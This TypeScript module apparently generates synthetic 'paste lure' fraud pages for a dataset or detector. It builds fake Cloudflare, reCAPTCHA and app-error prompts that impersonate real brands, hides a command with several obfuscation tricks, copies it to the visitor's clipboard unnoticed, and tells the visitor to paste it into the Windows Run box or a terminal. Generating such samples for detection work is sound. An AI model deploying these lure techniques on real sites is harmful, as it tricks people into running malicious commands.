import type { Chance } from '../make/chance.ts'
import type { Made } from '../make/envelope.ts'
import { library, ownScript } from '../make/libraries.ts'
import { fraudPage } from '../make/made.ts'
import { escaped } from '../make/pages/layout.ts'
import { CODERS, coded } from './code/coders.ts'
import { scriptTag, whole } from './code/document.ts'
import { packed } from './code/packers.ts'
import { quoted } from './code/tree.ts'
import { commandFor, type Window } from './kit/commands.ts'
import { fraudFamily } from './kit/fraud-family.ts'
import { secureUrl, strayHost } from './kit/places.ts'
import { PASTE_TALKS, type PasteTalk } from './words/paste-words.ts'

const KEYS: Readonly<Record<Window, readonly [string, string, string]>> = {
  run: ['Windows + R', 'CTRL + V', 'Enter'],
  terminal: ['⌘ + Space', '⌘ + V', 'Return'],
  bar: ['CTRL + L', 'CTRL + V', 'Enter'],
}

function steps(talk: PasteTalk, window: Window, chance: Chance): string {
  const key = (text: string) =>
    chance.maybe(0.5)
      ? `<b>${text}</b>`
      : text
          .split(' + ')
          .map((one) => `<kbd>${one}</kbd>`)
          .join(' + ')
  const [open, paste, enter] = KEYS[window]
  const first = { run: talk.open, terminal: talk.terminal, bar: talk.bar }[window]
  const lines = [
    escaped(first).replace('{k}', key(open)),
    escaped(talk.paste).replace('{k}', key(paste)),
    escaped(talk.enter).replace('{k}', key(enter)),
  ]
  return chance.of([
    () => `<p>${escaped(talk.lead)}</p><ol>${lines.map((line) => `<li>${line}</li>`).join('')}</ol>`,
    () =>
      `<h3>${escaped(talk.lead)}</h3>${lines.map((line, index) => `<div>${index + 1}. ${line}</div>`).join('')}`,
    () =>
      `<table><tr><th>${escaped(talk.lead)}</th></tr>${lines.map((line) => `<tr><td>${line}</td></tr>`).join('')}</table>`,
  ])()
}

/** Statements after which `cmd` is the command. */
function spelledOut(text: string, chance: Chance): string {
  const words = text.split(/(?<= )/)
  return chance.of([
    () => `var cmd=${quoted(text)};`,
    () => `var cmd=${coded(text, chance)};`,
    () => `var cmd=${CODERS.littered(text, chance)};`,
    () => `var cmd="";${words.map((word) => `cmd+=${quoted(word)};`).join('')}`,
    () =>
      `var w=${JSON.stringify([...words].reverse()).replaceAll('</', '<\\/')},cmd="";while(w.length)cmd+=w.pop();`,
    () => {
      const half = Math.floor(text.length / 2)
      return `var p={a:${quoted(text.slice(0, half))},b:${coded(text.slice(half), chance)}},cmd=p.a+p.b;`
    },
    () =>
      `function cx(n){return String.fromCharCode(n^${7})}var cmd=[${[...Array(text.length).keys()].map((at) => text.charCodeAt(at) ^ 7).join(',')}].map(cx).join("");`,
  ])()
}

/** The statement that puts `cmd` on the clipboard. */
const copied = (chance: Chance): string =>
  chance.of([
    'navigator.clipboard.writeText(cmd);',
    'window.navigator["clip"+"board"]["write"+"Text"](cmd);',
    'navigator.clipboard.write([new ClipboardItem({"text/plain":new Blob([cmd],{type:"text/plain"})})]);',
    'var t=document.createElement("textarea");t.value=cmd;t.style.position="fixed";t.style.opacity="0";document.body.appendChild(t);t.select();document.execCommand("copy");t.remove();',
    'var h=function(e){e.clipboardData.setData("text/plain",cmd);e.preventDefault();document.removeEventListener("copy",h)};document.addEventListener("copy",h);document.execCommand("copy");',
    '(async function(){try{await navigator.clipboard.writeText(cmd)}catch(e){var i=document.createElement("input");document.body.append(i);i.value=cmd;i.focus();i.setSelectionRange(0,9999);document.execCommand("copy")}})();',
    'var d=document.createElement("div");d.textContent=cmd;document.body.append(d);var s=getSelection(),r=document.createRange();r.selectNodeContents(d);s.removeAllRanges();s.addRange(r);document.execCommand("copy");d.remove();',
  ])

/** What the visitor clicks on. */
function stage(talk: PasteTalk, site: string, chance: Chance): { markup: string; on: string } {
  const fault = escaped(chance.of(talk.faults))
  return chance.of<() => { markup: string; on: string }>([
    () => ({
      markup: `<main><h1>${site}</h1><p>${escaped(talk.wait)}</p><div class="cb"><label><input type="checkbox" id="go"> ${escaped(talk.robot)}</label><img src="https://www.cloudflare.com/favicon.ico" alt="Cloudflare" width="16"></div><p>Ray ID: ${chance.hex(16)}</p></main>`,
      on: 'document.getElementById("go").addEventListener("change",lure);',
    }),
    () => ({
      markup: `<div class="rc-anchor" id="go" role="checkbox" tabindex="0"><span class="box"></span> ${escaped(talk.robot)}<br><small>reCAPTCHA</small></div>`,
      on: 'document.querySelector("#go").onclick=lure;',
    }),
    () => ({
      markup: `<div class="dlg"><h2>${chance.of(['Google Meet', 'Word Online', 'Zoom', 'OneDrive', 'Chrome', 'Booking'])}</h2><p>${fault}</p><button id="go">${escaped(talk.fix)}</button></div>`,
      on: 'document.getElementById("go").addEventListener("click",lure,{once:true});',
    }),
    () => ({
      markup: `<p>${fault}</p><button onclick="lure()" class="btn">${escaped(talk.fix)}</button>`,
      on: 'window.lure=lure;',
    }),
    () => ({
      markup: `<div class="h-captcha"><iframe title="${escaped(talk.robot)}" hidden></iframe><button class="btn" data-go>${escaped(talk.robot)}</button></div>`,
      on: 'document.addEventListener("pointerup",function(e){if(e.target.closest("[data-go]"))lure()});',
    }),
    () => ({
      markup: `<turn-stile></turn-stile>`,
      on: `customElements.define("turn-stile",class extends HTMLElement{connectedCallback(){var r=this.attachShadow({mode:"open"});r.innerHTML=${quoted(`<button class="btn">☐ ${escaped(talk.robot)}</button>`)};r.querySelector("button").onclick=lure}});document.body.dataset.go="1";`,
    }),
  ])()
}

function shown(html: string, chance: Chance): string {
  const text = chance.maybe(0.5) ? quoted(html) : coded(html, chance)
  return chance.of([
    `var b=document.createElement("div");b.className="modal";b.innerHTML=${text};document.body.appendChild(b);`,
    `document.getElementById("how").innerHTML=${text};document.getElementById("how").hidden=false;`,
    `document.getElementById("how").insertAdjacentHTML("afterbegin",${text});document.getElementById("how").removeAttribute("hidden");`,
    `setTimeout(function(){var h=document.getElementById("how");h.hidden=false;h.innerHTML=${text}},${200 + chance.below(1500)});`,
  ])
}

type Arrangement = (code: string, url: string, chance: Chance) => ReturnType<typeof arranged>
function arranged(head: string, tail: string, resources: Made['resources'] = []) {
  return { head, tail, resources }
}

const ARRANGEMENTS: readonly Arrangement[] = [
  (code) => arranged('', scriptTag(code)),
  (code) => arranged('', scriptTag(`(function(){${code}})();`)),
  (code, _, chance) => arranged('', scriptTag(packed(code, 1 + chance.below(2), chance))),
  (code, url, chance) => {
    const script = ownScript(url, `${chance.of(['js', 'cdn', 'assets'])}/${chance.hex(8)}.js`, code)
    return arranged('', script.tag, [script.resource])
  },
  (code, url, chance) => {
    const lib = library('jquery', url, chance)
    return arranged(lib.tag, scriptTag(`jQuery(function(){${code}});`), [lib.resource])
  },
]

function page(arrangement: Arrangement, chance: Chance): Made {
  const talk = chance.of(PASTE_TALKS)
  const site = strayHost(chance)
  const url = secureUrl(
    chance.of(['captcha', 'verify', 'human check', chance.name(3), chance.name(2)]),
    chance,
  )
  const { window, text } = commandFor(chance)
  const { markup, on } = stage(talk, site, chance)
  const how = `${steps(talk, window, chance)}<button class="ok">${escaped(talk.done)}</button>`
  const code = `${spelledOut(text, chance)}\nfunction lure(){${copied(chance)}${shown(how, chance)}}\n${on}`
  const { head, tail, resources } = arrangement(code, url, chance)
  return fraudPage(
    url,
    whole({
      language: talk.language,
      title: chance.of(talk.title),
      head: `<meta name="viewport" content="width=device-width"><style>.modal,#how{position:fixed;left:50%;top:50%;transform:translate(-50%,-50%);background:#fff;border:1px solid #ccc;padding:20px}</style>${head}`,
      body: `${markup}<div id="how" hidden></div>${tail}`,
    }),
    resources,
  )
}

export const pasteLures = fraudFamily(
  'scripted_paste_lure',
  ARRANGEMENTS.map((arrangement) => (chance: Chance) => page(arrangement, chance)),
)
